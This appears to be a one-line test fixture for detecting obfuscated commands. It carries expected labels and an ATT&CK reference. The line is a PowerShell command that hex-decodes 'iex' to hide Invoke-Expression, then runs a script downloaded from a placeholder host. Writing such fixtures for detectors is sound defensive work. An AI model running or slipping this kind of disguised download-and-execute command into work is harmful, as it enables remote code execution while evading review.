# expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
&(('69x65x78' -split 'x' | ForEach-Object { [char][Convert]::ToInt16($_, 16) }) -join '') (irm http://files.example.invalid/stage)
